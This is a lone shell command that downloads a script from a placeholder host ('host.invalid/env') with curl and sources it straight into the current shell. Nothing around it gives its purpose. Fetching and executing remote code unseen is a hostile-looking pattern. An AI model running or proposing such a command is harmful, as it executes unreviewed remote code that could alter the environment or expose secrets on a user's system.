source <(curl -s \
  https://host.invalid/env)
